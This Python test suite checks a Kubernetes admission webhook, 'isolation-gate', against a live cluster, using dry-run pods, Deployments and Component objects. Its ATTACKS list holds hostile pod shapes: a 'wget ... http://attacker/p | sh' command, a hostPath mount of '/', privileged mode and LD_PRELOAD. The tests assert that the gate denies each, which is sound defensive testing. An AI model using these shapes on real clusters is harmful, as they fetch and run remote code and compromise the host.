"""The e2e suite for any cluster: what a user sees through a real API server once
the chart is installed. It needs only "an API server with isolation-gate
installed by the chart (default values) and reachable through a kubeconfig",
and makes no assumption that the gate runs as a local process:

    cd tests/e2e && KUBECONFIG=~/.kube/config /usr/bin/python3 -m unittest cluster_suite -v

Environment: IG_KUBECONFIG, else KUBECONFIG (its first file), else
~/.kube/config; IG_KUBE_CONTEXT (default: the current context);
IG_RELEASE_NAMESPACE (default isolation-gate-system); IG_SUITE_WAIT (seconds,
default 120: the bound of each wait); IG_NONADMIN_KUBECONFIG and
IG_NONADMIN_USER (a user in no admin group, for the trust case; default: the
kubeconfig's user impersonating ig-suite-dev). The cluster must not have the setec
sandbox (RuntimeClass kata-fc), as kind has not (checked first): a trusted
Component's pods are then admitted in-process and an untrusted one's denied
(the hosted shape, the chart's default). The user of the kubeconfig must be
able to create and delete namespaces, Components, Deployments, Roles and
RoleBindings, read the CRD and impersonate users (kind's admin can).

Each test class works in a scratch namespace of its own, labelled
gibson.zeroroot.ai/isolation=enforced (and pod-security privileged, so that
Pod Security never answers before the gate), with the example Components
applied by kubectl; it deletes the namespace afterwards. Pods are created with
dryRun=All, so nothing has to run (kind has no Kata); the only workload stored
is a Deployment of no replicas (for explain). Every test asserts the gate's own
message fragments (src/admission/pod_rules.cpp, handlers.cpp, trust_guard.cpp;
docs/security.md for the attack shapes).

tests/e2e/test_cluster_suite_local.py runs this suite in the test command
against the repository's test API server with the chart's objects installed and
the Deployment played by processes of the binary (test_cluster_suite_previous.py
with the previous release's chart); .github/workflows/e2e-kind.yml runs it
against kind. The trust case skips, saying why, where the API server has
neither RBAC nor impersonation and no non-admin kubeconfig is given (the local
drivers give one). The explain case needs the binary
as the kubectl plugin on PATH (kubectl-isolation_gate; the local drivers and
the kind workflow put it there) and skips without it. Every wait is bounded;
nothing asserts how long something took.
"""

import json
import os
import shutil
import subprocess
import time
import unittest
import uuid

import yaml

HERE = os.path.dirname(os.path.abspath(__file__))
SOURCE_DIR = os.environ.get("IG_SOURCE_DIR") or os.path.dirname(os.path.dirname(HERE))
EXAMPLES = os.path.join(SOURCE_DIR, "examples")

COMPONENT_LABEL = "gibson.zeroroot.ai/component"
ISOLATION_KEY = "gibson.zeroroot.ai/isolation"  # the namespace label and the decision annotation
GROUP, VERSION, PLURAL = "gibson.zeroroot.ai", "v1alpha1", "components"
CRD_NAME = "components.gibson.zeroroot.ai"
RUNTIME_CLASS = "kata-fc"  # the chart's runtimeClass default
DEV_USER = "ig-suite-dev"  # impersonated: a user in no admin group

ENTRYPOINT = "where a pod runs only what its Component declares"
LOADER = "where nothing may load code the Component does not declare"
HOST = "where a pod may not reach the host"
DENIED = 'gibson.zeroroot.ai" denied the request'


def settings():
    path = os.environ.get("IG_KUBECONFIG") or (os.environ.get("KUBECONFIG") or "").split(os.pathsep)[0] \
        or os.path.expanduser("~/.kube/config")
    return {"kubeconfig": path, "context": os.environ.get("IG_KUBE_CONTEXT") or None,
            "release_namespace": os.environ.get("IG_RELEASE_NAMESPACE") or "isolation-gate-system",
            "wait": float(os.environ.get("IG_SUITE_WAIT") or 120),
            "nonadmin_kubeconfig": os.environ.get("IG_NONADMIN_KUBECONFIG") or None,
            "nonadmin_user": os.environ.get("IG_NONADMIN_USER") or DEV_USER}


def example(kind, name, namespace):
    with open(os.path.join(EXAMPLES, kind, name + ".yaml")) as f:
        obj = yaml.safe_load(f)
    obj["metadata"]["namespace"] = namespace
    return obj


def wait_until(what, predicate, timeout):
    deadline = time.monotonic() + timeout
    last = None
    while time.monotonic() < deadline:
        last = predicate()
        if last:
            return last
        time.sleep(0.5)
    raise AssertionError("not reached within %ss: %s (last: %r)" % (timeout, what, last))


def message_of(e):
    """The API's message in an ApiException's Status body."""
    try:
        return json.loads(e.body).get("message", e.body)
    except (TypeError, ValueError):
        return e.body


class InstalledCase(unittest.TestCase):
    """A scratch namespace, enforced, with the example Components applied by kubectl."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        import kubernetes
        cls.k8s = kubernetes
        cls.cfg = settings()
        cls.client = cls.api_client()
        cls.core = kubernetes.client.CoreV1Api(cls.client)
        cls.custom = kubernetes.client.CustomObjectsApi(cls.client)
        rc = kubernetes.client.NodeV1Api(cls.client).read_runtime_class
        if cls.status_of(rc, RUNTIME_CLASS, _preload_content=False) != 404:
            raise AssertionError("this suite expects a cluster without the setec sandbox, and RuntimeClass %s is "
                                 "there (or cannot be read)" % RUNTIME_CLASS)
        cls.ns = "ig-suite-%s-%s" % (cls.__name__.lower()[:20], uuid.uuid4().hex[:6])
        cls.core.create_namespace({"apiVersion": "v1", "kind": "Namespace", "metadata": {
            "name": cls.ns, "labels": {ISOLATION_KEY: "enforced", "pod-security.kubernetes.io/enforce": "privileged"}}})
        cls.addClassCleanup(cls.delete_namespace)
        if cls.served("", "v1", "serviceaccounts"):
            # Pods need their namespace's default ServiceAccount (its controller makes it).
            wait_until("the ServiceAccount default in " + cls.ns,
                       lambda: cls.status_of(cls.core.read_namespaced_service_account, "default", cls.ns) == 200,
                       cls.cfg["wait"])
        # Enforcing once the leader applied the webhook configurations and the namespace is seen labelled.
        wait_until("the gate denying an unlabelled pod in " + cls.ns,
                   lambda: DENIED in str(cls.create_pod(cls.pod("probe", component=None))[1]),
                   cls.cfg["wait"])
        components = [example("components", n, cls.ns) for n in ("docs-indexer", "report-parser", "legacy-exporter")]
        cls.applied = cls.kubectl("apply", "-f", "-", namespace=cls.ns,
                                  stdin="".join("---\n" + yaml.safe_dump(c) for c in components))
        if cls.applied.returncode != 0:
            raise AssertionError("kubectl apply of examples/components failed:\n%s%s"
                                 % (cls.applied.stdout, cls.applied.stderr))

    @classmethod
    def api_client(cls):
        cfg = cls.k8s.client.Configuration()
        cls.k8s.config.load_kube_config(config_file=cls.cfg["kubeconfig"], context=cls.cfg["context"],
                                        client_configuration=cfg)
        client = cls.k8s.client.ApiClient(cfg)
        cls.addClassCleanup(client.rest_client.pool_manager.clear)
        cls.addClassCleanup(client.close)
        return client

    @classmethod
    def delete_namespace(cls):
        try:
            cls.core.delete_namespace(cls.ns)
        except cls.k8s.client.ApiException as e:
            if e.status != 404:
                raise

    @classmethod
    def status_of(cls, fn, *args, **kw):
        try:
            fn(*args, **kw)
            return 200
        except cls.k8s.client.ApiException as e:
            return e.status

    @classmethod
    def call(cls, fn, *args, **kw):
        """(200, the answer as a dict) when fn succeeds, else (HTTP status, the API's message)."""
        try:
            out = fn(*args, **kw)
            return 200, (out.to_dict() if hasattr(out, "to_dict") else out)
        except cls.k8s.client.ApiException as e:
            return e.status, message_of(e)

    @classmethod
    def served(cls, group, version, resource):
        """Whether the API server serves group/version's resource (discovery)."""
        path = "/api/v1" if group == "" else "/apis/%s/%s" % (group, version)
        try:
            out = cls.client.call_api(path, "GET", response_type="object", auth_settings=["BearerToken"],
                                      _return_http_data_only=True)
        except cls.k8s.client.ApiException as e:
            if e.status == 404:
                return False
            raise
        return any(r.get("name") == resource for r in out.get("resources", []))

    @classmethod
    def kubectl_binary(cls):
        return shutil.which("kubectl") or os.path.join(SOURCE_DIR, ".tools", "bin", "kubectl")

    @classmethod
    def kubectl(cls, *args, namespace=None, stdin=None, timeout=120):
        """kubectl with the suite's kubeconfig; `--validate=false` on writes only where the API server
        serves no OpenAPI document (kubectl's client-side validation needs it; the test API server has none)."""
        binary = cls.kubectl_binary()
        if not os.access(binary, os.X_OK):
            raise unittest.SkipTest("kubectl not installed")
        cmd = [binary]
        if "--kubeconfig" not in args:  # another user's kubeconfig, given in args, comes with its own context
            cmd += ["--kubeconfig", cls.cfg["kubeconfig"]] + (["--context", cls.cfg["context"]] if cls.cfg["context"]
                                                               else [])
        if namespace:
            cmd += ["-n", namespace]
        cmd += list(args)
        if args[0] in ("apply", "create") and not cls.openapi_served():
            cmd.append("--validate=false")
        return subprocess.run(cmd, input=stdin, capture_output=True, text=True, timeout=timeout)

    _openapi = None

    @classmethod
    def openapi_served(cls):
        if InstalledCase._openapi is None:
            InstalledCase._openapi = cls.status_of(
                cls.client.call_api, "/openapi/v3", "GET", auth_settings=["BearerToken"],
                _preload_content=False) == 200
        return InstalledCase._openapi

    @classmethod
    def pod(cls, name, component="docs-indexer", change=None):
        """A pod of `component` on the example Component's image (None: unlabelled), `change(spec, container)`
        applied."""
        image = "registry.example.com/gibson/docs-indexer:2.0.1"
        if component and os.path.exists(os.path.join(EXAMPLES, "components", component + ".yaml")):
            image = example("components", component, cls.ns)["spec"]["image"]
        p = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": cls.ns},
             "spec": {"containers": [{"name": "main", "image": image}]}}
        if component:
            p["metadata"]["labels"] = {COMPONENT_LABEL: component}
        if change:
            change(p["spec"], p["spec"]["containers"][0])
        return p

    @classmethod
    def create_pod(cls, pod):
        """A dry-run create: (200, the pod as admitted) or (HTTP status, the API's message)."""
        return cls.call(cls.core.create_namespaced_pod, cls.ns, pod, dry_run="All")

    def assert_denied(self, status, msg, *fragments, webhook=None):
        self.assertEqual(status, 403, msg)
        self.assertIn(('admission webhook "%s" denied the request' % webhook) if webhook else DENIED, msg)
        for f in fragments:
            self.assertIn(f, msg)

    def subject(self, name, kind="pod"):
        return '%s "%s" in namespace "%s" denied: ' % (kind, name, self.ns)


class Install(InstalledCase):
    def test_the_chart_s_webhook_configurations_call_the_release_s_service_and_fail_closed(self):
        import kubernetes
        admission = kubernetes.client.AdmissionregistrationV1Api(self.client)
        selector = "app.kubernetes.io/name=isolation-gate"
        found = {}
        for kind, lister in (("mutating", admission.list_mutating_webhook_configuration),
                             ("validating", admission.list_validating_webhook_configuration)):
            items = lister(label_selector=selector).items
            self.assertEqual(len(items), 1, "%s configurations labelled %s: %r"
                             % (kind, selector, [i.metadata.name for i in items]))
            found[kind] = items[0]
        names = set()
        for kind, conf in found.items():
            for w in conf.webhooks:
                names.add(w.name)
                with self.subTest(webhook=w.name):
                    self.assertEqual(w.client_config.service.namespace, self.cfg["release_namespace"])
                    self.assertTrue(w.client_config.ca_bundle, "no caBundle")
                    self.assertEqual(w.side_effects, "None")
                    # Only the audit webhooks (nothing denied, nothing patched) may be ignored when down.
                    self.assertEqual(w.failure_policy, "Ignore" if ".audit." in w.name else "Fail")
        self.assertTrue({"pods.mutate.gibson.zeroroot.ai", "pods.validate.gibson.zeroroot.ai",
                         "workloads.validate.gibson.zeroroot.ai", "components.validate.gibson.zeroroot.ai",
                         "namespaces.validate.gibson.zeroroot.ai"} <= names, names)

    def test_components_are_applied_by_kubectl_and_an_omitted_trust_is_warned_about(self):
        out = self.applied.stdout + self.applied.stderr
        for name in ("docs-indexer", "report-parser", "legacy-exporter"):
            self.assertIn("component.gibson.zeroroot.ai/%s created" % name, out)
        self.assertIn('Warning: spec.policy.content_trust omitted: Component "legacy-exporter" is treated as '
                      'trusted; declare it', out)
        got = self.custom.get_namespaced_custom_object(GROUP, VERSION, self.ns, PLURAL, "report-parser")
        self.assertEqual(got["spec"]["policy"]["content_trust"], "untrusted")

    def test_the_leader_writes_each_component_s_status(self):
        # (trust, declared, isolation, Admitted condition) of each example Component without the sandbox,
        # in the hosted shape (docs/operations.md, "Component status").
        expected = {"docs-indexer": ("trusted", True, "AllowInProcess", ("True", "TrustedInProcess")),
                    "report-parser": ("untrusted", True, "Deny", ("False", "SandboxUnavailable")),
                    "legacy-exporter": ("trusted", False, "AllowInProcess", ("True", "TrustedInProcess"))}
        for name, (trust, declared, isolation, admitted) in expected.items():
            with self.subTest(component=name):
                def observed():
                    c = self.custom.get_namespaced_custom_object(GROUP, VERSION, self.ns, PLURAL, name)
                    st = c.get("status") or {}
                    return c if st.get("observedGeneration") == c["metadata"]["generation"] else None
                st = wait_until("the status of Component %s/%s" % (self.ns, name), observed, self.cfg["wait"])["status"]
                self.assertEqual((st["contentTrust"], st["trustDeclared"], st["isolation"]),
                                 (trust, declared, isolation))
                self.assertNotIn("runtimeClassName", st)
                cond = {c["type"]: (c["status"], c["reason"]) for c in st["conditions"]}
                self.assertEqual(cond["Admitted"], admitted)
                self.assertEqual(cond["TrustDeclared"], ("True", "Declared") if declared else ("False", "Omitted"))


class Pods(InstalledCase):
    def test_an_unlabelled_pod_is_denied_naming_the_label_to_add(self):
        status, msg = self.create_pod(self.pod("unlabelled", component=None))
        self.assert_denied(status, msg, self.subject("unlabelled") + "it has no label " + COMPONENT_LABEL,
                           'namespace "%s" is enforced by isolation-gate' % self.ns,
                           "To fix: add the label %s: <Component name> to the pod (metadata.labels)." % COMPONENT_LABEL,
                           webhook="pods.mutate.gibson.zeroroot.ai")

    def test_a_pod_naming_no_component_is_denied(self):
        status, msg = self.create_pod(self.pod("orphan", component="no-such-component"))
        self.assert_denied(status, msg, 'names Component "no-such-component", which does not exist in namespace "%s"'
                           % self.ns)

    def test_a_trusted_component_s_pod_is_admitted_in_process_without_the_sandbox(self):
        pod = example("pods", "docs-indexer-pod", self.ns)
        status, created = self.create_pod(pod)
        self.assertEqual(status, 200, created)
        self.assertEqual(created["metadata"]["annotations"][ISOLATION_KEY], "AllowInProcess")
        self.assertIsNone(created["spec"].get("runtime_class_name"))

    def test_an_omitted_trust_is_admitted_with_kubectl_showing_the_warning(self):
        p = self.kubectl("create", "--dry-run=server", "-o", "jsonpath={.metadata.annotations}", "-f", "-",
                         namespace=self.ns, stdin=yaml.safe_dump(self.pod("legacy-0", component="legacy-exporter")))
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertEqual(json.loads(p.stdout)[ISOLATION_KEY], "AllowInProcess")
        self.assertIn('Warning: Component "legacy-exporter" declares no content_trust: treated as trusted; declare it',
                      p.stderr)

    def test_an_untrusted_component_s_pod_is_denied_in_the_hosted_shape(self):
        pod = example("pods", "report-parser-pod", self.ns)
        status, msg = self.create_pod(pod)
        self.assert_denied(status, msg, self.subject(pod["metadata"]["name"]),
                           'component "report-parser" is untrusted (content_trust: untrusted)',
                           "isolation-gate runs in the setec-only (hosted) shape",
                           'the setec sandbox (RuntimeClass "%s") is ' % RUNTIME_CLASS,
                           "so untrusted code has nowhere safe to run")

    def test_through_kubectl_an_untrusted_pod_is_refused_with_the_gate_s_message(self):
        p = self.kubectl("apply", "--dry-run=server", "-f", "-", namespace=self.ns,
                         stdin=yaml.safe_dump(example("pods", "report-parser-pod", self.ns)))
        self.assertNotEqual(p.returncode, 0, p.stdout)
        self.assertIn("Error from server (Forbidden)", p.stderr)
        self.assertIn(DENIED, p.stderr)
        self.assertIn("so untrusted code has nowhere safe to run", p.stderr)


# Issue 25's attack shapes on a trusted Component's pod (its label and image, in-process without the sandbox).
ATTACKS = [
    ("own command", lambda s, c: c.update(command=["sh", "-c", "wget -qO- http://attacker/p | sh"]),
     [ENTRYPOINT, 'container "main" sets command ["sh","-c","wget -qO- http://attacker/p | sh"]']),
    ("hostPath", lambda s, c: s.update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
     [HOST, 'hostPath volume "root"']),
    ("privileged", lambda s, c: c.update(securityContext={"privileged": True}), [HOST, 'privileged container "main"']),
    ("LD_PRELOAD", lambda s, c: c.update(env=[{"name": "LD_PRELOAD", "value": "/tmp/evil.so"}]),
     [LOADER, 'container "main" sets env LD_PRELOAD']),
    ("envFrom", lambda s, c: c.update(envFrom=[{"configMapRef": {"name": "evil"}}]),
     [LOADER, 'container "main" takes envFrom']),
]


class Attacks(InstalledCase):
    def test_each_attack_shape_on_a_trusted_component_s_pod_is_denied_with_its_reason(self):
        for i, (name, change, fragments) in enumerate(ATTACKS):
            with self.subTest(attack=name):
                status, msg = self.create_pod(self.pod("attack-%d" % i, change=change))
                self.assert_denied(status, msg, self.subject("attack-%d" % i),
                                   'component "docs-indexer" runs outside a microVM', *fragments)

    def test_the_same_pod_without_the_attack_is_admitted(self):
        status, created = self.create_pod(self.pod("plain"))
        self.assertEqual(status, 200, created)
        self.assertEqual(created["metadata"]["annotations"][ISOLATION_KEY], "AllowInProcess")


def deployment(name, namespace, template_labels, change=None, replicas=1):
    containers = [{"name": "main", "image": example("components", "docs-indexer", namespace)["spec"]["image"]}]
    if change:
        change({}, containers[0])
    return {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": name, "namespace": namespace},
            "spec": {"replicas": replicas, "selector": {"matchLabels": {"app": name}},
                     "template": {"metadata": {"labels": dict(template_labels, app=name)},
                                  "spec": {"containers": containers}}}}


class Workloads(InstalledCase):
    def test_a_deployment_whose_pods_would_be_denied_is_refused_at_apply(self):
        if not self.served("apps", "v1", "deployments"):
            self.skipTest("the API server serves no apps/v1 Deployments")
        cases = [
            ("unlabelled", {}, None, ["its pods would be denied: it has no label " + COMPONENT_LABEL,
                                      "to the pod template (spec.template.metadata.labels)."]),
            ("own-command", {COMPONENT_LABEL: "docs-indexer"}, ATTACKS[0][1],
             ["its pods would be denied: component \"docs-indexer\" runs outside a microVM", ENTRYPOINT]),
        ]
        for name, labels, change, fragments in cases:
            with self.subTest(deployment=name):
                p = self.kubectl("apply", "--dry-run=server", "-f", "-", namespace=self.ns,
                                 stdin=yaml.safe_dump(deployment(name, self.ns, labels, change)))
                self.assertNotEqual(p.returncode, 0, p.stdout)
                self.assertIn('admission webhook "workloads.validate.gibson.zeroroot.ai" denied the request',
                              p.stderr)
                self.assertIn(self.subject(name, kind="Deployment"), p.stderr)
                for f in fragments:
                    self.assertIn(f, p.stderr)
        # The Deployment of the trusted Component's declared shape is accepted.
        p = self.kubectl("apply", "--dry-run=server", "-f", "-", namespace=self.ns,
                         stdin=yaml.safe_dump(deployment("fine", self.ns, {COMPONENT_LABEL: "docs-indexer"})))
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertIn("deployment.apps/fine created (server dry run)", p.stdout)


class Explain(InstalledCase):
    """`kubectl isolation-gate explain` (the binary installed as the kubectl plugin kubectl-isolation_gate)."""

    def explain(self, target):
        """kubectl passes every argument after the plugin's name to the plugin: its own flags come there."""
        args = [self.kubectl_binary(), "isolation-gate", "explain", target, "-n", self.ns, "-o", "json",
                "--gate-namespace", self.cfg["release_namespace"], "--kubeconfig", self.cfg["kubeconfig"]]
        if self.cfg["context"]:
            args += ["--context", self.cfg["context"]]
        p = subprocess.run(args, capture_output=True, text=True, timeout=120)
        try:
            return p.returncode, json.loads(p.stdout)
        except ValueError:
            raise AssertionError("explain printed no JSON (exit %d):\n%s%s" % (p.returncode, p.stdout, p.stderr))

    def test_kubectl_isolation_gate_explains_a_live_deployment_and_what_to_do(self):
        if not shutil.which("kubectl-isolation_gate"):
            self.skipTest("the kubectl plugin kubectl-isolation_gate is not on PATH (cmake --install puts it there)")
        if not self.served("apps", "v1", "deployments"):
            self.skipTest("the API server serves no apps/v1 Deployments")
        # A live Deployment of no replicas (nothing runs): the gate admitted it; explain reads it back.
        p = self.kubectl("apply", "-f", "-", namespace=self.ns, stdin=yaml.safe_dump(
            deployment("explained", self.ns, {COMPONENT_LABEL: "docs-indexer"}, replicas=0)))
        self.assertEqual(p.returncode, 0, p.stderr)
        code, out = self.explain("deployment/explained")
        self.assertEqual(code, 0, out)
        self.assertEqual((out["decision"], out["object"]["kind"], out["component"]["name"]),
                         ("AllowInProcess", "Deployment", "docs-indexer"), out)
        self.assertEqual(out["component"]["contentTrust"]["effective"], "trusted")
        self.assertEqual(out["sandbox"]["state"], "unavailable")
        self.assertFalse(out["sandbox"]["runtimeClass"]["found"])
        # Its Component tightened (anyone may): its pods would now be denied; explain says why and what to do.
        self.custom.patch_namespaced_custom_object(GROUP, VERSION, self.ns, PLURAL, "docs-indexer",
                                                   {"spec": {"policy": {"content_trust": "untrusted"}}})
        code, out = self.explain("deployment/explained")
        self.assertEqual(code, 1, out)
        self.assertEqual((out["decision"], out["reason"]), ("Deny", "SandboxUnavailable"), out)
        self.assertIn("so untrusted code has nowhere safe to run", out["message"])
        self.assertIn('install setec\'s RuntimeClass "%s" (or pass --runtime-class)' % RUNTIME_CLASS, out["todo"])


def component(name, namespace, trust="trusted", image="registry.example.com/gibson/tool:1.0"):
    return {"apiVersion": "%s/%s" % (GROUP, VERSION), "kind": "Component",
            "metadata": {"name": name, "namespace": namespace},
            "spec": {"kind": "tool", "image": image, "policy": {"content_trust": trust}}}


class Components(InstalledCase):
    def create(self, obj):
        return self.call(self.custom.create_namespaced_custom_object, GROUP, VERSION, self.ns, PLURAL, obj,
                         dry_run="All")

    def crd_installed(self):
        import kubernetes
        ext = kubernetes.client.ApiextensionsV1Api(self.client)
        return self.status_of(ext.read_custom_resource_definition, CRD_NAME, _preload_content=False) == 200

    def test_an_invalid_content_trust_is_refused(self):
        status, msg = self.create(component("maybe-trusted", self.ns, trust="sometimes"))
        if self.crd_installed():
            # The CRD's schema (an enum) refuses it before any webhook is called.
            self.assertEqual(status, 422, msg)
            self.assertIn('spec.policy.content_trust: Unsupported value: "sometimes"', msg)
        else:
            # Without the CRD's schema (the test API server serves Components natively), the gate refuses it.
            self.assert_denied(status, msg, 'Component "maybe-trusted": spec.policy.content_trust: "sometimes" is not '
                               'a valid content trust; expected one of:',
                               webhook="components.validate.gibson.zeroroot.ai")

    def test_an_invalid_image_the_schema_accepts_is_refused_by_the_gate(self):
        status, msg = self.create(component("bad-image", self.ns, image="registry.example.com/Gibson/Tool:1"))
        self.assert_denied(status, msg, 'Component "bad-image": spec.image: "registry.example.com/Gibson/Tool:1" is '
                           'not a valid image reference', "must be lowercase letters",
                           webhook="components.validate.gibson.zeroroot.ai")

    def test_a_valid_component_is_admitted(self):
        status, created = self.create(component("fine", self.ns))
        self.assertEqual(status, 200, created)
        self.assertEqual(created["spec"]["policy"]["content_trust"], "trusted")


class Trust(InstalledCase):
    """Loosening content_trust needs a trust admin (the chart's default: system:masters); tightening is anyone's.
    As a user in no admin group: IG_NONADMIN_KUBECONFIG's user when given (IG_NONADMIN_USER names it), else
    DEV_USER impersonated (`kubectl --as`), granted Components in the scratch namespace by a Role and nothing
    else (`kubectl auth can-i` shows the impersonation is honoured)."""

    def as_non_admin(self):
        """(kubectl options acting as the non-admin user, its name)."""
        if self.cfg["nonadmin_kubeconfig"]:
            return ["--kubeconfig", self.cfg["nonadmin_kubeconfig"]], self.cfg["nonadmin_user"]
        if not (self.served("rbac.authorization.k8s.io", "v1", "roles")
                and self.served("authorization.k8s.io", "v1", "selfsubjectaccessreviews")):
            self.skipTest("the API server serves no RBAC and no SelfSubjectAccessReview, so no user in no admin group "
                          "can be granted Components and impersonated (kubectl --as), and no IG_NONADMIN_KUBECONFIG "
                          "was given")
        import kubernetes
        rbac = kubernetes.client.RbacAuthorizationV1Api(self.client)
        rbac.create_namespaced_role(self.ns, {
            "metadata": {"name": "ig-suite-components"},
            "rules": [{"apiGroups": [GROUP], "resources": [PLURAL], "verbs": ["get", "list", "patch", "update"]}]})
        rbac.create_namespaced_role_binding(self.ns, {
            "metadata": {"name": "ig-suite-components"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "ig-suite-components"},
            "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": DEV_USER}]})
        wait_until("RBAC granting %s patch on Components" % DEV_USER,
                   lambda: self.can_i("patch", "components." + GROUP), self.cfg["wait"])
        # The impersonation is honoured: the user may do only what the Role grants (its impersonator may do more).
        self.assertFalse(self.can_i("create", "pods"))
        return ["--as=" + DEV_USER], DEV_USER

    def can_i(self, verb, resource):
        p = self.kubectl("auth", "can-i", verb, resource, "--as=" + DEV_USER, namespace=self.ns)
        self.assertIn(p.stdout.strip(), ("yes", "no"), p.stderr)
        return p.stdout.strip() == "yes"

    def patch(self, who, name, trust):
        """kubectl patch (a server dry run) of the Component's content_trust, as `who` (kubectl options)."""
        return self.kubectl("patch", "component", name, "--type=merge", "--dry-run=server",
                            "-p", json.dumps({"spec": {"policy": {"content_trust": trust}}}),
                            "-o", "jsonpath={.spec.policy.content_trust}", *who, namespace=self.ns)

    def test_a_non_admin_may_not_loosen_trust_but_may_tighten_it(self):
        who, user = self.as_non_admin()
        p = self.patch(who, "report-parser", "trusted")
        self.assertNotEqual(p.returncode, 0, p.stdout)
        self.assertIn('admission webhook "components.validate.gibson.zeroroot.ai" denied the request', p.stderr)
        self.assertIn('changing Component "report-parser" in namespace "%s" content_trust from "untrusted" to '
                      '"trusted" would let its pods run outside a microVM, and user "%s" is not in a trust-admin group'
                      % (self.ns, user), p.stderr)
        p = self.patch(who, "docs-indexer", "untrusted")
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertEqual(p.stdout, "untrusted")
        # Dry runs: nothing changed.
        got = self.custom.get_namespaced_custom_object(GROUP, VERSION, self.ns, PLURAL, "docs-indexer")
        self.assertEqual(got["spec"]["policy"]["content_trust"], "trusted")


# Every test class of the suite.
CLASSES = tuple(c for c in list(globals().values())
                if isinstance(c, type) and issubclass(c, InstalledCase) and c is not InstalledCase)


def classes_for(module):
    """The suite's classes as classes of `module` (a driver's: tests/e2e/test_cluster_suite_*.py), so that its
    setUpModule and tearDownModule run around them: {name: class}, for its globals()."""
    return {c.__name__: type(c.__name__, (c,), {"__module__": module, "__doc__": c.__doc__}) for c in CLASSES}


def load_driver_tests(loader, module):
    """A driver's load_tests: the suite's classes in `module`, and nothing else it defines."""
    tests = unittest.TestSuite()
    for c in CLASSES:
        tests.addTests(loader.loadTestsFromTestCase(getattr(module, c.__name__)))
    return tests


if __name__ == "__main__":
    unittest.main()
